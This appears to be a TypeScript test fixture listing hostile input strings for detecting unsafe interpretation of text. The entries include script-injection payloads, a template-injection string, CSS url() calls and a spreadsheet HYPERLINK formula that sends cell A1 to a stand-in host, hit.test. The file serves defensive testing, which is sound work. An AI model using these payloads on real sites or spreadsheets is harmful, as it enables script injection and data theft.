// Texts that have an effect if a page, a style sheet, a template or a spreadsheet interprets them. `hit()` marks
// execution, `data-hit` created elements, and hit.test requests.

export type HostileText = {
  text: string;
  /** What it becomes when interpreted as markup, which the test must detect. */
  inMarkup?: 'element' | 'script';
};

const script = (text: string): HostileText => ({ text, inMarkup: 'script' });
const element = (text: string): HostileText => ({ text, inMarkup: 'element' });

export const hostileTexts: readonly HostileText[] = [
  script('<img src=x onerror=hit() data-hit>'),
  // Whether innerHTML runs it depends on the browser version.
  element('<svg/onload=hit() data-hit>'),
  element('"><script data-hit>hit()</script>'),
  { text: `'" data-hit onfocus=hit() autofocus x='` },
  { text: 'javascript:hit()//' },
  element('<a href=javascript:hit()>link</a>'),
  { text: "{{constructor.constructor('hit()')()}}${hit()}" },
  element('<math><mi data-hit>x</mi></math>'),
  script('<iframe data-hit srcdoc="<script>parent.hit()</script>">'),
  element('</title></textarea></style><b data-hit>'),
  element('<style data-hit>*{background:url(//hit.test)}</style>'),
  element('somebody@<b/data-hit>.test'),
  { text: 'red;background:url(//hit.test)' },
  { text: '\u202eright to left\u2066 and left open' },
  { text: 'one\u2028line\u2029only' },
  { text: '=HYPERLINK("//hit.test?"&A1,"x")' },
  { text: '&lt;img src=x onerror=hit()&gt;' },
  { text: '%3Cimg%20src=x%20onerror=hit()%3E' },
  { text: '__proto__' },
  { text: 'constructor' },
  { text: 'W'.repeat(2000) },
];
